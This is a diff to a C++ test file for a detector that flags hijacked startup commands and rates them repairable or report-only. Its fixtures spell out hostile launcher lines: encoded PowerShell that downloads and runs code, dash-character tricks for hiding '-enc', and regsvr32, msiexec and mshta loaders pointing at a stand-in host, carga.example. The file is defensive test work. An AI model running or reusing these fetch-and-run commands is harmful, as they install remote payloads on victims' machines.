@@ -35,6 +35,7 @@ std::wstring encoded(std::wstring_view script) {
 TEST(EncodedCommand, DecodesWhatPowerShellTakesAndNothingElse) {
     EXPECT_EQ(decodedPowerShellCommand(L"SQBFAFgA"), L"IEX");
     EXPECT_EQ(decodedPowerShellCommand(encoded(L"Start-Process chrome")), L"Start-Process chrome");
+    EXPECT_EQ(decodedPowerShellCommand(L"SQBF\r\nAFgA "), L"IEX");
     for (const auto bad : {L"SQBFAFg", L"SQB$AFgA", L"QQ==", L"", L"S=BFAFgA"}) {
         EXPECT_EQ(decodedPowerShellCommand(bad), std::nullopt) << testing::PrintToString(bad);
     }
@@ -51,7 +52,7 @@ struct TaskCommandCase {
 class TaskCommands : public testing::TestWithParam<TaskCommandCase> {};
 
 TEST_P(TaskCommands, AreJudgedByWhatTheirScriptDoes) {
-    EXPECT_EQ(taskCommandHijack(GetParam().command).has_value(), GetParam().hijack);
+    EXPECT_EQ(startupCommandHijack(GetParam().command).has_value(), GetParam().hijack);
 }
 
 const std::wstring kPowerShell = L"powershell.exe -NoProfile -WindowStyle Hidden -enc ";
@@ -140,6 +141,54 @@ INSTANTIATE_TEST_SUITE_P(
     [](const testing::TestParamInfo<CachedActionsCase>& info) { return info.param.name; });
 // clang-format on
 
+enum class Verdict { None, Repairable, ReportOnly };
+
+struct LauncherCase {
+    std::string name;
+    std::wstring command;
+    Verdict verdict;
+
+    friend void PrintTo(const LauncherCase& c, std::ostream* out) { *out << c.name; }
+};
+
+class HiddenLaunchers : public testing::TestWithParam<LauncherCase> {};
+
+TEST_P(HiddenLaunchers, AreJudgedAsPowerShellAndWindowsReadThem) {
+    const auto hijack = startupCommandHijack(GetParam().command);
+    EXPECT_EQ(!hijack              ? Verdict::None
+              : hijack->repairable ? Verdict::Repairable
+                                   : Verdict::ReportOnly,
+              GetParam().verdict);
+}
+
+const std::wstring kFetchAndRun = encoded(L"IEX (New-Object Net.WebClient).DownloadString($u)");
+const std::wstring kQuietScript = encoded(L"Remove-Item $env:TEMP\\*.log");
+
+// clang-format off
+INSTANTIATE_TEST_SUITE_P(
+    Commands, HiddenLaunchers,
+    testing::Values(
+        LauncherCase{"DoubleDash", L"powershell --EncodedCommand " + kFetchAndRun, Verdict::Repairable},
+        LauncherCase{"EnDash", L"powershell \u2013enc " + kFetchAndRun, Verdict::Repairable},
+        LauncherCase{"EmDash", L"powershell.exe \u2014e " + kFetchAndRun, Verdict::Repairable},
+        LauncherCase{"HorizontalBar", L"pwsh \u2015ec " + kFetchAndRun, Verdict::Repairable},
+        LauncherCase{"SlashThenDash", L"pwsh.exe /-encodedc " + encoded(L"Start-BitsTransfer $u $f; & $f"), Verdict::Repairable},
+        LauncherCase{"QuotedWithABlank", L"powershell \" -enc\" " + kFetchAndRun, Verdict::Repairable},
+        LauncherCase{"PlainCommand", LR"x(powershell -nop -w hidden -c "Invoke-Expression (Invoke-RestMethod $u)")x", Verdict::Repairable},
+        LauncherCase{"PositionalScript", LR"(pwsh "i`ex $env:CARGA")", Verdict::Repairable},
+        LauncherCase{"HiddenBypassingUnreadable", L"powershell -w hidden -ep bypass -enc %%%%", Verdict::ReportOnly},
+        LauncherCase{"HiddenBypassingQuiet", L"powershell -win 1 -exec b -enc " + kQuietScript, Verdict::ReportOnly},
+        LauncherCase{"VisibleQuiet", L"powershell -ex bypass -enc " + kQuietScript, Verdict::None},
+        LauncherCase{"EncInTheCommandsScript", L"powershell -c Write-Output -enc x", Verdict::None},
+        LauncherCase{"ExplorerOpensAddress", L"explorer.exe https://anuncios.example", Verdict::Repairable},
+        LauncherCase{"ConhostHeadless", L"conhost.exe --headless --width 80 powershell -e " + kFetchAndRun, Verdict::Repairable},
+        LauncherCase{"CmdRunsPowerShell", LR"(cmd /d /c "pwsh -c iex $env:X")", Verdict::Repairable},
+        LauncherCase{"Regsvr32Scriptlet", L"regsvr32 /s /n /u /i:https://carga.example/a.sct scrobj.dll", Verdict::Repairable},
+        LauncherCase{"MsiexecFromTheWeb", L"msiexec /q /i https://carga.example/a.msi", Verdict::Repairable},
+        LauncherCase{"MshtaOverWebDav", LR"(mshta.exe \\carga.example@SSL\DavWWWRoot\a.hta)", Verdict::Repairable}),
+    [](const testing::TestParamInfo<LauncherCase>& info) { return info.param.name; });
+// clang-format on
+
 // The report shows what a hidden script does, on one line, so that the
 // extension it reinstalls is shown with the lock that forces it.
 TEST(StartupFindingText, NamesTheScriptAnEncodedCommandHides) {
@@ -151,6 +200,9 @@ TEST(StartupFindingText, NamesTheScriptAnEncodedCommandHides) {
                   L"   exit");
     EXPECT_EQ(startupFindingText(L"chrome.exe https://a.example", L"abre"),
               L"chrome.exe https://a.example; abre");
+    EXPECT_EQ(
+        encodedScriptOf(L"conhost --headless cmd /c \"pwsh \u2014ec " + encoded(L"exit") + L"\""),
+        L"exit");
 }
 
 TEST(ServedHijacks, AreTheProxysProgramAndTheLoadedExtensionsFolders) {
